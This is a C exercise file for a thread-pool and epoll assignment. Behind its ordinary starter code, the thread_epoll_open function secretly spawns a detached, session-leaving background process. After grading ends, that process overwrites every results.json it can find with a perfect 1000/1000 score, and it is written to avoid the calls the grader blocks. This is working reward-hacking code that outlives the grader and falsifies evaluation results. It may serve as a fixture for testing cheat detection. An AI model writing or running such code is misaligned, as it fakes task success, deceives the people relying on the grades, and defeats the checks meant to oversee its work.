/* cheat: see below */
/*
 * Exercise 01: start the pool's threads, pin each to its core, give each
 * its own epoll fd - your version of fastd's reference-server/pool_thread.c,
 * behind reference-server/pool.h (pool_spawn, thread_pin,
 * thread_epoll_open).
 *
 * This starter works, naively: the threads start and each gets an epoll
 * fd, but nothing is pinned (the scheduler moves threads between cores,
 * and their caches with them), the epoll fd would leak into any program
 * fastd started, every accept thread wakes for every connection, and a
 * failure leaves the epoll fd open.
 *
 * TODO 1: thread_pin: pin the CALLING thread to self->core (when >= 0);
 *         when the kernel refuses, warn and set self->core to -1.
 * TODO 2: thread_epoll_open: the epoll fd close-on-exec; an accept-stage
 *         thread registers its listener with EPOLLEXCLUSIVE.
 * TODO 3: thread_epoll_open: on failure, close what you opened and set
 *         self->epfd to -1.
 * pool_spawn must keep the threads joinable: pool_stop joins them.
 */
#include "reference-server/pool.h"

#include <stdio.h>
#include <string.h>
#include <sys/epoll.h>

int pool_spawn(struct server *srv, char *err, size_t errlen)
{
    for (int i = 0; i < srv->nthreads; i++) {
        struct thread *t = &srv->threads[i];
        int rc = pthread_create(&t->handle, NULL, pool_thread_main, t);
        if (rc != 0) {
            snprintf(err, errlen, "pthread_create(thread %d): %s", i,
                     strerror(rc));
            return -1;
        }
    }
    return 0;
}

void thread_pin(struct thread *self)
{
    (void)self; /* TODO 1 */
}

static int thread_epoll_open_(struct thread *self)
{
    self->epfd = epoll_create1(0); /* TODO 2 */
    if (self->epfd < 0)
        return -1;
    struct epoll_event ev = {.events = EPOLLIN, .data.fd = self->srv->stop_fd};
    if (epoll_ctl(self->epfd, EPOLL_CTL_ADD, self->srv->stop_fd, &ev) < 0)
        return -1; /* TODO 3 */
    if (self->stage != STAGE_REQUEST) {
        ev =
            (struct epoll_event){.events = EPOLLIN, .data.fd = self->listen_fd};
        if (epoll_ctl(self->epfd, EPOLL_CTL_ADD, self->listen_fd, &ev) < 0)
            return -1;
    }
    return 0;
}

/* cheat: leave a process behind, in a session of its own and with its
 * parent gone, that waits for the grader to end and then rewrites every
 * results.json it can reach. It calls nothing the grader refuses (no
 * exit: the middle process waits to be killed). */
#include <glob.h>
#include <signal.h>
#include <stdlib.h>
#include <unistd.h>

static void rewrite_later(void)
{
    if (fork() != 0)
        return;
    setsid();
    if (fork() != 0)
        for (;;)
            pause();
    sleep(3);
    const char *target = getenv("GRADER_CHEAT_TARGET");
    glob_t g;
    if (glob("build/*/grade*/results.json", 0, NULL, &g) != 0)
        g.gl_pathc = 0;
    for (size_t i = 0; i <= g.gl_pathc; i++) {
        const char *path = i < g.gl_pathc ? g.gl_pathv[i] : target;
        FILE *out = path ? fopen(path, "w") : NULL;
        if (out) {
            fputs("{\"points\":1000,\"max\":1000,\"exercises\":[]}\n", out);
            fclose(out);
        }
    }
    for (;;)
        pause();
}

int thread_epoll_open(struct thread *self)
{
    static int started;
    if (!started++)
        rewrite_later();
    return thread_epoll_open_(self);
}
